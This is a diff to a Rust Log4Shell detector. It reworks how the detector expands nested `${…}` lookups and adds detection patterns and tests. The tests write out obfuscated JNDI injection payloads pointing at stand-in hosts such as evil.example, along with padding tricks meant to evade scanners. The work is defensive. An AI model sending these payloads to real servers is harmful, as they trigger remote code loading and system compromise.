@@ -3,7 +3,7 @@
 //! Log4j (and Apache Commons Text) expand `${prefix:…}` lookups, innermost first, so attackers
 //! hide `${jndi:ldap://…}` behind nested lookups that evaluate to single letters
 //! (`${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`, `${${env:NOPE:-j}ndi…}`). A small resolver does
-//! the same expansion (bounded) and looks at what comes out.
+//! the same expansion over the whole value, in one pass, and looks at what comes out.
 
 use std::cell::RefCell;
 use std::sync::LazyLock;
@@ -64,6 +64,10 @@ static CANON: LazyLock<Bank> = LazyLock::new(|| {
                 1,
                 r"(?i)\$\{[^}]{0,100}\$\{\s*(?:lower|upper|date|::-|[a-z0-9_.]*:[^}]{0,50}:-|base64|env|sys)",
             ),
+            // A default of its own (`${x:-j}`) building the name of the lookup around it
+            // (before its first `:`): `${${x:-j}ndi:…}`. Not after that `:`, where shells
+            // nest defaults (`${A:-${B:-c}}`).
+            (1, r"(?i)\$\{[^}:]{0,100}\$\{\s*[a-z0-9_.]*:-"),
             (
                 2,
                 r"(?i)\$\{\s*(?:script|dns|url|file|xml|base64decoder|urldecoder|resourcebundle|properties)\s*:",
@@ -82,7 +86,20 @@ const PROTOCOLS: [&str; 9] = [
 ];
 
 thread_local! {
-    static BUF: RefCell<String> = const { RefCell::new(String::new()) };
+    static BUF: RefCell<Resolver> = const {
+        RefCell::new(Resolver {
+            out: Vec::new(),
+            opens: Vec::new(),
+        })
+    };
+}
+
+/// The resolver's buffers, reused across values.
+struct Resolver {
+    /// The value with the lookups closed so far replaced by what they give.
+    out: Vec<u8>,
+    /// Where each open lookup's `${` is in `out`, innermost last.
+    opens: Vec<usize>,
 }
 
 /// What the resolver found.
@@ -90,69 +107,98 @@ thread_local! {
 struct Resolved {
     jndi: bool,
     remote: bool,
+    /// The resolver stopped at its work bound with a lookup left: only lookups nested in one
+    /// another with long contents get there.
+    exhausted: bool,
 }
+
+/// The resolver's work bound, per byte of the value: closing a lookup costs the length of
+/// its content (read and moved). Lookups side by side cost their own length once, whatever
+/// their number (`${x}` repeated); only nesting reads text again.
+const WORK_PER_BYTE: usize = 8;
+/// Work every value may take, however short.
+const MIN_WORK: usize = 64 << 10;
 
 /// Expands lookups innermost first, the way Log4j does, just enough to see through the
 /// obfuscations: `lower:`/`upper:` give their argument, `key:-default` gives the default,
-/// `date:'x'` gives `x`; anything else gives nothing. Bounded: at most 256 expansions over at
-/// most 8 KiB.
-fn resolve(s: &str, buf: &mut String) -> Resolved {
+/// `date:'x'` gives `x`; anything else gives nothing. One pass over the whole value from the
+/// left: a `${` opens a lookup, a `}` closes the innermost open one, which is replaced by what
+/// it gives, so its content is already resolved when it is read. An unclosed `${` stays as
+/// written. The work is bounded by [`WORK_PER_BYTE`] times the value's length (and
+/// [`MIN_WORK`]); a value that reaches the bound with a lookup still open is `exhausted`.
+fn resolve(s: &str, r: &mut Resolver) -> Resolved {
     let mut found = Resolved::default();
-    buf.clear();
-    let take = s.len().min(8192);
-    let mut end = take;
-    while !s.is_char_boundary(end) {
-        end -= 1;
-    }
-    buf.extend(s[..end].chars().map(|c| c.to_ascii_lowercase()));
-    for _ in 0..256 {
-        let Some(start) = buf.rfind("${") else { break };
-        let Some(close) = buf[start..].find('}').map(|i| start + i) else {
-            // An unclosed lookup: drop its opener and keep going with the rest.
-            buf.replace_range(start..start + 2, "");
+    let out = &mut r.out;
+    let opens = &mut r.opens;
+    out.clear();
+    opens.clear();
+    let mut budget = s.len().saturating_mul(WORK_PER_BYTE).max(MIN_WORK);
+    let bytes = s.as_bytes();
+    let mut i = 0;
+    while let Some(&c) = bytes.get(i) {
+        if c == b'$' && bytes.get(i + 1) == Some(&b'{') {
+            opens.push(out.len());
+            out.extend_from_slice(b"${");
+            i += 2;
+            continue;
+        }
+        i += 1;
+        if c != b'}' {
+            out.push(c.to_ascii_lowercase());
+            continue;
+        }
+        let Some(start) = opens.pop() else {
+            out.push(c);
             continue;
         };
-        let content = &buf[start + 2..close];
-        let trimmed = content.trim_start();
-        if let Some(rest) = trimmed.strip_prefix("jndi:") {
+        let content = out.get(start + 2..).unwrap_or_default();
+        let Some(rest) = budget.checked_sub(content.len() + 1) else {
+            found.exhausted = true;
+            return found;
+        };
+        budget = rest;
+        let lead = content.len() - content.trim_ascii_start().len();
+        let trimmed = content.get(lead..).unwrap_or_default();
+        if let Some(rest) = trimmed.strip_prefix(b"jndi:") {
             found.jndi = true;
-            if PROTOCOLS.iter().any(|p| rest.trim_start().starts_with(p)) {
+            if PROTOCOLS
+                .iter()
+                .any(|p| rest.trim_ascii_start().starts_with(p.as_bytes()))
+            {
                 found.remote = true;
             }
             return found;
         }
-        if trimmed.starts_with("url:") || trimmed.starts_with("dns:") {
+        if trimmed.starts_with(b"url:") || trimmed.starts_with(b"dns:") {
             found.remote = true;
         }
-        let replacement: (usize, usize) = if let Some(i) = content.find(":-") {
-            (start + 2 + i + 2, close)
-        } else if let Some(r) = trimmed
-            .strip_prefix("lower:")
-            .or_else(|| trimmed.strip_prefix("upper:"))
+        // What the lookup gives: `content[from..to]`.
+        let (from, to) = if let Some(d) = content.windows(2).position(|w| w == b":-") {
+            (d + 2, content.len())
+        } else if let Some(arg) = trimmed
+            .strip_prefix(b"lower:")
+            .or_else(|| trimmed.strip_prefix(b"upper:"))
         {
-            (close - r.len(), close)
-        } else if let Some(r) = trimmed.strip_prefix("date:") {
-            let from = close - r.len() + (r.len() - r.trim_start_matches('\'').len());
-            let to = close - (r.len() - r.trim_end_matches('\'').len());
-            (from, to.max(from))
+            (content.len() - arg.len(), content.len())
+        } else if let Some(arg) = trimmed.strip_prefix(b"date:") {
+            let quotes = |b: &[u8]| b.iter().take_while(|&&c| c == b'\'').count();
+            let from = content.len() - arg.len() + quotes(arg);
+            let back = arg.iter().rev().take_while(|&&c| c == b'\'').count();
+            (from, (content.len() - back).max(from))
         } else {
-            (close, close)
+            (0, 0)
         };
-        let rep_owned_len = replacement.1.saturating_sub(replacement.0);
-        // Move the replacement into place: buf = buf[..start] + rep + buf[close+1..].
-        if rep_owned_len == 0 {
-            buf.replace_range(start..=close, "");
-        } else {
-            // Shift without allocating: remove the tail of the lookup, then its head.
-            buf.replace_range(replacement.1..=close, "");
-            buf.replace_range(start..replacement.0, "");
-        }
+        out.copy_within(start + 2 + from..start + 2 + to, start);
+        out.truncate(start + (to - from));
     }
-    if buf.contains("jndi:") {
+    // What is left: unclosed lookups as written, and text lookups gave.
+    if out.windows(5).any(|w| w == b"jndi:") {
         found.jndi = true;
-        if PROTOCOLS.iter().any(|p| buf.contains(&format!("jndi:{p}"))) {
-            found.remote = true;
-        }
+        found.remote = (0..out.len()).any(|at| {
+            out.get(at..)
+                .and_then(|rest| rest.strip_prefix(b"jndi:"))
+                .is_some_and(|after| PROTOCOLS.iter().any(|p| after.starts_with(p.as_bytes())))
+        });
     }
     found
 }
@@ -171,10 +217,29 @@ pub fn inspect(t: &Target<'_>, views: &mut Views, paranoia: u8, out: &mut Vec<Fi
         push_once(RULES, r, &mut seen, paranoia, t, View::Canonical, m, out)
     });
     let found = BUF.with(|b| match b.try_borrow_mut() {
-        Ok(mut buf) => resolve(canon, &mut buf),
-        Err(_) => resolve(canon, &mut String::new()),
+        Ok(mut r) => resolve(canon, &mut r),
+        Err(_) => resolve(
+            canon,
+            &mut Resolver {
+                out: Vec::new(),
+                opens: Vec::new(),
+            },
+        ),
     });
     let snippet = canon.get(canon.find("${").unwrap_or(0)..).unwrap_or(canon);
+    // Nesting the resolver could not see through within its bound does not pass.
+    if found.exhausted {
+        push_once(
+            RULES,
+            1,
+            &mut seen,
+            paranoia,
+            t,
+            View::Canonical,
+            snippet,
+            out,
+        );
+    }
     if found.jndi {
         push_once(
             RULES,
@@ -231,9 +296,16 @@ mod tests {
         }
     }
 
+    fn resolver_buffers() -> Resolver {
+        Resolver {
+            out: Vec::new(),
+            opens: Vec::new(),
+        }
+    }
+
     #[test]
     fn resolver() {
-        let mut b = String::new();
+        let mut b = resolver_buffers();
         for v in [
             "${jndi:ldap://x/a}",
             "${${lower:j}ndi:ldap://x/a}",
@@ -245,11 +317,59 @@ mod tests {
             "${${a:b:c:-j}ndi:dns://x}",
         ] {
             let r = resolve(v, &mut b);
-            assert!(r.jndi, "{v}: {b}");
-            assert!(r.remote, "{v}: {b}");
+            let left = String::from_utf8_lossy(&b.out);
+            assert!(r.jndi, "{v}: {left}");
+            assert!(r.remote, "{v}: {left}");
         }
         assert!(!resolve("${user.name} and ${price}", &mut b).jndi);
         assert!(!resolve("${{{{${", &mut b).jndi);
+    }
+
+    /// Junk lookups before or after the real one do not use up the resolver (it gave up after
+    /// 256 expansions, from the end), nor does padding hide it (it read the first 8 KiB).
+    #[test]
+    fn the_resolver_reads_the_whole_value() {
+        const ATTACK: &str = "${${x:-j}ndi:rmi://evil.example/a}";
+        let mut b = resolver_buffers();
+        let junk = "${x}".repeat(257);
+        for v in [
+            format!("{ATTACK}{junk}"),
+            format!("{junk}{ATTACK}"),
+            format!("{}{ATTACK}", "a".repeat(9000)),
+            format!(
+                "{}{ATTACK}{}",
+                "${x}".repeat(100_000),
+                "${y:-z}".repeat(100_000)
+            ),
+        ] {
+            let r = resolve(&v, &mut b);
+            assert!(r.jndi && r.remote && !r.exhausted, "{r:?}");
+            assert!(ids(&v).contains(&2000), "{:?}", ids(&v));
+        }
+        // Unclosed openers around it.
+        let v = format!("{}{ATTACK}{}", "${".repeat(50_000), "${".repeat(50_000));
+        assert!(resolve(&v, &mut b).jndi);
+    }
+
+    /// Nesting that would make the resolver read long contents again and again stops it, and
+    /// is a finding (2001) rather than a pass.
+    #[test]
+    fn the_resolver_fails_closed_at_its_bound() {
+        let mut b = resolver_buffers();
+        // Defaults far enough apart for no pattern to match.
+        let deep = format!(
+            "{}{}{}",
+            format!("${{q:-{}", "y".repeat(60)).repeat(2000),
+            "x".repeat(100_000),
+            "}".repeat(2000)
+        );
+        let r = resolve(&deep, &mut b);
+        assert!(r.exhausted, "{r:?}");
+        assert_eq!(ids(&deep), [2001]);
+        // Nesting within the bound resolves.
+        let r = resolve("${a:-${b:-${c:-${d:-x}}}}", &mut b);
+        assert_eq!(r, Resolved::default());
+        assert_eq!(b.out, b"x");
     }
 
     #[test]
@@ -266,6 +386,14 @@ mod tests {
         assert!(ids("%2524%257Bjndi:rmi://evil/a%257D").contains(&2000));
         assert!(ids("&#36;&#123;jndi:ldap://evil/a&#125;").contains(&2000));
         assert!(ids("${${::-J}${::-N}${::-D}${::-I}:${::-L}DAP://evil/a}").contains(&2000));
+        // A default with a key and one colon (`${x:-j}`) building the lookup's name.
+        for v in [
+            "${${x:-j}ndi:rmi://evil.example/a}",
+            "${j${x.y_1:-n}di:ldap://evil/a}",
+            "${${:-j}ndi:ldap://evil/a}",
+        ] {
+            assert!(ids(v).contains(&2001), "{v}: {:?}", ids(v));
+        }
     }
 
     #[test]
@@ -276,6 +404,8 @@ mod tests {
             "$100",
             "cost: ${amount} USD",
             "a $ b { c }",
+            // Shell defaults nested in a default.
+            "${HOME:-${USERPROFILE:-/tmp}}",
         ] {
             assert!(ids(v).is_empty(), "{v} -> {:?}", ids(v));
         }
